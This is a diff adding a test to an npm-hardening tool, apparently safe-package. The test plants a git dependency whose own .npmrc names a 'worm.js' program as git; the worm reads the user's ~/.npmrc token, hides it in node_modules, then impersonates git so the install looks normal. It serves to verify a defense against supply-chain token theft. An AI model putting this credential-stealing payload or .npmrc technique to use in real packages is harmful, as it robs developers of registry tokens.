@@ -6,8 +6,8 @@
 // uses sp-test).
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
-import { spawn } from 'node:child_process';
-import { existsSync, readFileSync, rmSync, writeFileSync, chownSync, chmodSync, readdirSync } from 'node:fs';
+import { spawn, spawnSync } from 'node:child_process';
+import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync, chownSync, chmodSync, readdirSync } from 'node:fs';
 import { join } from 'node:path';
 import { startRegistry, type TestRegistry } from '../../support/registry.js';
 import { uniqueName } from '../../support/fixture-packages.js';
@@ -237,4 +237,65 @@ test('a project .npmrc naming a program (git=) cannot run it in the download pha
   assert.match(r.stdout, /settings left out: git/);
   await runCli(['npm', 'install', '--no-audit', '--no-fund'], { cwd, user });
   assert.equal(await published(`${thief}-gitworm-jail`), false, 'the worm published itself from the download phase');
+});
+
+// The same program named one level down: npm prepares a git dependency that has a
+// prepare script by running `npm install` in its clone, and that npm reads the clone's
+// own .npmrc as its project configuration — chosen by whoever controls the repository,
+// never filtered like the user's project .npmrc. A `git=` there runs as soon as the
+// clone's own dependencies name a git source, while the download phase holds the token.
+// The proxy refuses a publish from there, so this worm keeps what it finds where it
+// lasts: a file in node_modules, committed to the project like every installed file.
+// (The repository must know where its program is: the test names it; an attacker ships it
+// in another dependency and finds it through ${PWD}, which npm expands in .npmrc.)
+function gitDepWormProject(): string {
+  const cwd = makeProject(user, {
+    'worm.js':
+      '#!/usr/bin/env node\n' +
+      "const fs = require('fs'), path = require('path'), cp = require('child_process');\n" +
+      "let loot = 'ran\\n';\n" +
+      "try { loot += fs.readFileSync(path.join(process.env.HOME, '.npmrc'), 'utf8'); } catch (e) { loot += 'no npmrc: ' + e.code + '\\n'; }\n" +
+      "try { fs.appendFileSync(path.join(__dirname, 'node_modules', '.worm-loot'), loot); } catch (e) {}\n" +
+      // Then act as git, so that the install goes on and nothing looks amiss.
+      "const r = cp.spawnSync('git', process.argv.slice(2), { stdio: 'inherit' }); process.exit(r.status === null ? 1 : r.status);\n",
+  });
+  chmodSync(join(cwd, 'worm.js'), 0o755);
+  // The repository, beside the project, owned by the user (git refuses others' repositories).
+  const work = join(cwd, '..', 'repo');
+  const bareRepo = join(cwd, '..', 'gitdep.git');
+  const git = (args: string[], dir: string) => {
+    const r = spawnSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.invalid', '-c', 'init.defaultBranch=main', ...args], { cwd: dir, encoding: 'utf8', uid: user.uid, gid: user.gid, env: { ...baseEnv(user) } });
+    assert.equal(r.status, 0, `git ${args.join(' ')}: ${r.stderr}`);
+  };
+  for (const dir of [work, bareRepo]) {
+    mkdirSync(dir);
+    chownSync(dir, user.uid, user.gid);
+  }
+  // It depends on a git source itself (its own repository, under another name), so the
+  // clone's install asks the configured git program.
+  writeFileSync(join(work, 'package.json'), JSON.stringify({ name: 'gitdep', version: '1.0.0', scripts: { prepare: 'true' }, dependencies: { 'gitdep-self': `git+file://${bareRepo}` } }));
+  writeFileSync(join(work, '.npmrc'), `git=${join(cwd, 'worm.js')}\n`);
+  spawnSync('chown', ['-R', `${user.uid}:${user.gid}`, work]);
+  git(['init', '-q'], work);
+  git(['add', '-A'], work);
+  git(['commit', '-q', '-m', 'gitdep'], work);
+  git(['clone', '-q', '--bare', work, bareRepo], join(cwd, '..'));
+  writeFileSync(join(cwd, 'package.json'), JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { gitdep: `git+file://${bareRepo}` } }));
+  chownSync(join(cwd, 'package.json'), user.uid, user.gid);
+  return cwd;
+}
+
+test("a git dependency's own .npmrc naming a program (git=) cannot run it in the download phase: with bare npm it takes the token, through safe-package it never meets it", async () => {
+  const bare = gitDepWormProject();
+  await bareNpm(['install', '--no-audit', '--no-fund'], bare, { npm_config_ignore_scripts: 'true' });
+  const bareLoot = join(bare, 'node_modules', '.worm-loot');
+  assert.ok(existsSync(bareLoot) && readFileSync(bareLoot, 'utf8').includes(registry.token), "with bare npm, even with scripts off, the clone's git= program ran and read the token (the test can fail)");
+  const cwd = gitDepWormProject();
+  const r = await runCli(['npm', 'install', '--no-audit', '--no-fund'], { cwd, user });
+  assert.equal(r.status, 0, r.stderr);
+  assert.ok(existsSync(join(cwd, 'node_modules', 'gitdep', 'package.json')), 'the git dependency was installed');
+  const loot = join(cwd, 'node_modules', '.worm-loot');
+  const found = existsSync(loot) ? readFileSync(loot, 'utf8') : '';
+  assert.ok(!found.includes(registry.token), "the clone's git= program read the token");
+  assert.equal(found, '', "the clone's git= program ran in the download phase");
 });
